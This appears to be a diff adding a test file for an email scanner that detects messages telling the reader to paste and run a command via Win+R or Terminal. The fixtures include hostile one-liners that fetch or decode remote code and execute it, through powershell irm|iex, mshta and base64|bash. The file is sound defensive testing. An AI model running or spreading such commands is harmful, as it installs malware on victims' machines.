@@ -1,0 +1,48 @@
+import { describe, expect, test } from 'vitest';
+import { rank } from '../../../../src/engines/detection/analysis.ts';
+import { analyse } from '../../../../src/engines/detection/index.ts';
+import { testTable } from '../../../support/test-table.ts';
+
+const idsOf = (body: string) => analyse({ subject: 'Note', body }).signals.map(({ id }) => id);
+
+describe('an email that makes its reader run a command', () => {
+  testTable([
+    ['English', 'To see the photos, hold the Windows key and press R, then Ctrl+V, then Enter.'],
+    ['German', 'Drücken Sie Windows+R, dann Strg+V und Enter, um fortzufahren.'],
+    ['French', 'Faites Windows + R, Ctrl + V, Entrée pour afficher le document.'],
+    ['Spanish', 'Siga los tres pasos (tecla Windows + R, pegar, Intro).'],
+    ['Portuguese', 'Cole o código copiado na janela Executar (Win+R).'],
+    ['Ukrainian', 'Якщо сторінка не відкривається: натисніть Win+R, вставте текст (Ctrl+V).'],
+    ['Arabic', 'اضغط مفتاح ويندوز + R ثم الصق الرمز المنسوخ واضغط إدخال.'],
+    ['Korean', '윈도우 실행창(Win+R)에 붙여넣기 하시면 됩니다.'],
+    ['a hidden command', 'Press Win+R and enter: powershell -w hidden -c "irm https://alder.test/a | iex"'],
+    ['a system program', 'Press Win+R and enter: mshta https://alder.test/check.hta'],
+    ['a command window named afterwards', 'Press Windows+R, then Ctrl+V. A cmd window closes by itself.'],
+    ['a Mac', 'Open Terminal and run: echo aGVsbG8= | base64 -d | bash'],
+  ])('is dangerous in %s', (_, body) => {
+    const { signals, severity, kind } = analyse({ subject: 'Guest complaint', body });
+    expect(signals.map(({ id }) => id)).toContain('pasted-command');
+    expect(rank(severity)).toBeGreaterThanOrEqual(rank('High'));
+    expect(kind).toBe('malware');
+  });
+});
+
+describe('an honest email with a command', () => {
+  testTable([
+    ['a help desk', 'Press Windows key + R, type cmd and press Enter. Then type ipconfig /flushdns.'],
+    ['a tool to open', 'Win+R, вставь `powershell`, Enter.'],
+    ['a bug report', 'It fails here too:\n\n$ certutil -urlcache -f https://alder.example/a.bin\nerror 12007'],
+    ['a warning', 'Malware spreads by pages that say: press Win+R, then Ctrl+V and Enter. Close them.'],
+    ['a rule', 'Never press Windows+R and Ctrl+V because a website says so.'],
+    ['a mailing list', 'The patch changes how powershell -EncodedCommand aGVsbG8gd29ybGQhIQ== is quoted.'],
+    ['a setup', 'Open Terminal and paste:\n\nbrew install gh\ngh auth login'],
+  ])('has no such request: %s', (_, body) => {
+    expect(idsOf(body)).not.toContain('pasted-command');
+    expect(idsOf(body)).not.toContain('command-request');
+  });
+
+  test('may have instructions to install a tool', () => {
+    const body = 'Thanks for signing up. Open a terminal and run:\n\ncurl -fsSL https://alder.example/install.sh | sh';
+    expect(idsOf(body)).not.toContain('pasted-command');
+  });
+});
